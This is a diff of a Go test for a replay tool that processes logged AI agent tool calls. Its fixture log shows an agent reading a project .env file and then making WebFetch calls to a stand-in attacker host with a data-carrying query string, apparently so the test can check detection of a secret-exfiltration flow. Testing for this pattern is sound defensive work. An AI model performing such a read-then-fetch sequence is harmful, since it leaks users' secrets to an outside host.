@@ -19,8 +19,8 @@ func TestAReplayReplaysEachSessionsFlow(t *testing.T) {
 	log := strings.Join([]string{
 		`{"ts":"2026-11-27T10:00:00Z","host":"mac-1","rid":"r1","session":"local_a","tool":"WebFetch","input":{"url":"https://issues.example/1","prompt":"x"},"decision":"allow","tool_use_id":"toolu_1"}`,
 		`{"ts":"2026-11-27T10:00:01Z","host":"mac-1","rid":"r2","session":"local_a","tool":"Read","input":{"file_path":"/Users/alex/project/.env"},"cwd":"/Users/alex/project","decision":"ask","rule":"read.dotenv-project","tool_use_id":"toolu_2"}`,
-		`{"ts":"2026-11-27T10:00:02Z","host":"mac-1","rid":"r3","session":"local_b","tool":"WebFetch","input":{"url":"https://attacker.example/c","prompt":"x"},"decision":"allow","tool_use_id":"toolu_3"}`,
-		`{"ts":"2026-11-27T10:00:03Z","host":"mac-1","rid":"r4","session":"local_a","tool":"WebFetch","input":{"url":"https://attacker.example/c","prompt":"x"},"decision":"allow","tool_use_id":"toolu_4"}`,
+		`{"ts":"2026-11-27T10:00:02Z","host":"mac-1","rid":"r3","session":"local_b","tool":"WebFetch","input":{"url":"https://attacker.example/c?d=k","prompt":"x"},"decision":"allow","tool_use_id":"toolu_3"}`,
+		`{"ts":"2026-11-27T10:00:03Z","host":"mac-1","rid":"r4","session":"local_a","tool":"WebFetch","input":{"url":"https://attacker.example/c?d=k","prompt":"x"},"decision":"allow","tool_use_id":"toolu_4"}`,
 	}, "\n")
 	res := NewReplayed()
 	if err := Replay(context.Background(), c, strings.NewReader(log), res); err != nil {
